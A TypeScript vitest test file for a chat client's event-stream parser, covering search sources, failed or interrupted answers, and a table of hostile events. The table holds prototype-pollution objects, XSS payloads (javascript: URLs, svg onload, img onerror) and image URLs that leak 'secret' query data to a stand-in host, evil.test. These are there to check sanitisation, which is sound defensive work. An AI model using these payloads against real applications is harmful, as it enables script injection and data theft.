import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import type { AssistantUIMessage } from '../index.ts'
import { answered, answeredLines, textOf } from '../testing/chat.ts'
import { readHostileEvents } from '../testing/corpora.ts'

beforeEach(() => {
  vi.spyOn(console, 'warn').mockImplementation(() => {})
})
afterEach(() => vi.restoreAllMocks())

type Part = AssistantUIMessage['parts'][number]
const partsOf = async (events: unknown[]): Promise<Part[]> => (await answered(events)).messages[1]?.parts ?? []

const text = { type: 'text-delta', id: 't', delta: 'Text' }
const finish = { type: 'finish', finishReason: 'stop' }

describe('sources', () => {
  const call = (toolName = 'search') => ({ type: 'tool-input-available', toolCallId: 'c', toolName, input: {} })
  const output = (output: unknown) => ({ type: 'tool-output-available', toolCallId: 'c', output })
  const hits = [
    { path: '/install', url: '/install', metadata: { title: 'Install' } },
    { path: '/cli', metadata: {} },
    { path: '/bad', url: 'javascript:alert(1)' },
    null,
    { path: '/install', url: '/install', metadata: { title: 'Again' } }
  ]
  const sourcesOf = async (events: unknown[]) =>
    (await partsOf(events)).flatMap(part => (part.type === 'source-url' ? [[part.url, part.title]] : []))

  it.for([
    ['an array', hits],
    ['results', { results: hits }]
  ])('are taken from what a search returned: %s', async ([, found]) => {
    expect(await sourcesOf([call(), output(found), text, finish])).toEqual([
      ['/install', 'Install'],
      ['/cli', undefined]
    ])
  })

  it('are those that the service names, and the others that it found', async () => {
    const source = { type: 'source-url', sourceId: 's', url: '/install', title: 'By the service' }
    expect(await sourcesOf([call(), output(hits), source, text, finish])).toEqual([
      ['/install', 'By the service'],
      ['/cli', undefined]
    ])
  })

  it.for([
    ['of another tool', [call('lookup'), output(hits)]],
    ['of an output that is none', [call(), output('x')]],
    ['of no array', [call(), output({ results: {} })]]
  ] as [string, unknown[]][])('are not made up %s', async ([, events]) => {
    expect(await sourcesOf([...events, text, finish])).toEqual([])
  })

  it('are kept of an output that is too long to be kept itself', async () => {
    const long = [{ ...hits[0], content: 'x'.repeat(80_000) }]
    const parts = await partsOf([call(), output(long), text, finish])
    expect(parts.find(part => part.type === 'tool-search')).toMatchObject({
      state: 'output-available',
      output: { omittedLength: expect.any(Number) }
    })
    expect(parts.at(-1)).toMatchObject({ type: 'source-url', url: '/install' })
  })
})

describe('an answer that fails', () => {
  it('before its first word leaves no empty message', async () => {
    const chat = await answered([
      { type: 'start', messageId: 'x', messageMetadata: { model: 'm' } },
      { type: 'start-step' },
      { type: 'text-start', id: 't' },
      { type: 'error', errorText: 'overloaded' }
    ])
    expect(chat.messages).toHaveLength(1)
  })

  it('with a finish that says so is no complete answer', async () => {
    const chat = await answered([text, { ...finish, finishReason: 'error', threadId: 'thread' }])
    expect(chat.error).toMatchObject({ code: 'answer_failed' })
    expect(chat.lastMessage?.metadata).toEqual({ threadId: 'thread', interrupted: true })
    expect(textOf(chat.lastMessage)).toBe('Text')
  })

  it('still names its thread when the finish comes after the error', async () => {
    const chat = await answered([
      text,
      { type: 'error', errorText: 'x' },
      { ...text, delta: ' more' },
      { ...finish, threadId: 'thread' }
    ])
    expect(chat.lastMessage?.metadata).toEqual({ threadId: 'thread', interrupted: true })
    expect(textOf(chat.lastMessage)).toBe('Text')
  })

  it('keeps the sources of an answer without text', async () => {
    const chat = await answered([{ type: 'source-url', sourceId: 's', url: '/a' }, finish])
    expect(chat.error).toMatchObject({ code: 'empty_answer' })
    expect(chat.lastMessage?.parts).toMatchObject([{ type: 'source-url', url: '/a' }])
    expect(chat.lastMessage?.metadata).toBeUndefined()
  })

  it.for([
    { type: 'abort', reason: 'shutdown' },
    { ...finish, finishReason: 'interrupted' }
  ])('by a stop of the service is interrupted', async event => {
    const chat = await answered([text, event])
    expect(chat.error).toMatchObject({ code: 'interrupted' })
    expect(chat.lastMessage?.metadata).toEqual({ interrupted: true })
  })
})

/** Events by which a service, or what it read, could try something. As text, so that `__proto__` is a field. */
const hostileEvents = {
  'a prototype in metadata': '{"type":"message-metadata","messageMetadata":{"__proto__":{"polluted":true}}}',
  'a constructor in metadata': '{"type":"start","messageMetadata":{"constructor":{"prototype":{"polluted":true}}}}',
  'a constructor in data': '{"type":"data-x","data":{"constructor":{"prototype":{"polluted":true}}}}',
  'an element as data':
    '{"type":"data-x","data":{"type":"script","props":{"src":"//evil.test"},"constructor":null,"__k":null}}',
  'an element as a title': '{"type":"source-url","sourceId":"s","url":"/a","title":{"type":"script","props":{}}}',
  'a title that turns text around': '{"type":"source-url","sourceId":"s","url":"/a","title":"docs.test\u202egpj.exe"}',
  'a source that is a script':
    '{"type":"source-url","sourceId":"s","url":"javascript:alert(document.domain)","title":"Docs"}',
  'a source that hides a script':
    '{"type":"source-url","sourceId":"s","url":"\\tjava\\nscript:alert(1)","title":"Docs"}',
  'a source that is data': '{"type":"source-url","sourceId":"s","url":"data:text/html,<script>alert(1)</script>"}',
  'a source on another host':
    '{"type":"source-url","sourceId":"s","url":"https://evil.test/pixel?q=secret","title":"Docs"}',
  'a file that is a script': '{"type":"file","url":"javascript:alert(1)","mediaType":"image/png"}',
  'a file on another host': '{"type":"file","url":"https://evil.test/pixel.png?q=secret","mediaType":"image/png"}',
  'a drawing with a script':
    '{"type":"file","url":"data:image/svg+xml,<svg onload=\\"alert(1)\\"/>","mediaType":"image/svg+xml"}',
  'an image in reasoning': '{"type":"reasoning-delta","id":"r","delta":"![x](https://evil.test/pixel?q=secret)"}',
  'a tool with the name of an element':
    '{"type":"tool-input-start","toolCallId":"c","toolName":"<img src=x onerror=alert(1)>"}',
  'an id that is an element': '{"type":"start","messageId":"\\"><script>alert(1)</script>"}',
  'an error of 1 MB': `{"type":"error","errorText":"${'x'.repeat(1_000_000)}"}`
}

it.for([
  ...Object.entries(hostileEvents),
  ...readHostileEvents().map(({ class: name, line }) => [name, line] as [string, string])
])('takes a hostile event for what it is: %s', async ([, line]) => {
  const chat = await answeredLines([line, JSON.stringify(text), JSON.stringify(finish)])
  const failed = line.startsWith('{"type":"error"')
  expect(chat.status).toBe(failed ? 'error' : 'ready')
  expect(textOf(chat.messages[1])).toBe(failed ? '' : 'Text')
  const kept = JSON.stringify(chat.messages)
  expect(kept).not.toMatch(/"__proto__"|"constructor"|javascript:|java\\nscript|data:text/)
  for (const part of chat.messages[1]?.parts ?? []) {
    if (part.type === 'source-url') expect(typeof part.title).toMatch(/string|undefined/)
  }
  expect({}).not.toHaveProperty('polluted')
})

it('reads the reasoning of version 5.0.0', async () => {
  const parts = await partsOf([{ type: 'reasoning', text: 'Hm' }, { type: 'reasoning-part-finish' }, text, finish])
  expect(parts[0]).toMatchObject({ type: 'reasoning', text: 'Hm', state: 'done' })
})

it('tells in one line what it skipped and mended', async () => {
  await answered([null, { type: 'x' }, { type: 'x' }, text, { type: 'text-end', id: 'q' }, finish])
  expect(console.warn).toHaveBeenCalledExactlyOnceWith(expect.any(String), {
    skipped: { 'not an event': 1, 'unknown type x': 2 },
    mended: { 'text-delta without its start': 1, 'text-end without its start': 1 }
  })
})

it('says nothing about an answer that was as it should be', async () => {
  await answered([{ type: 'start' }, { type: 'text-start', id: 't' }, text, { type: 'text-end', id: 't' }, finish])
  expect(console.warn).not.toHaveBeenCalled()
})
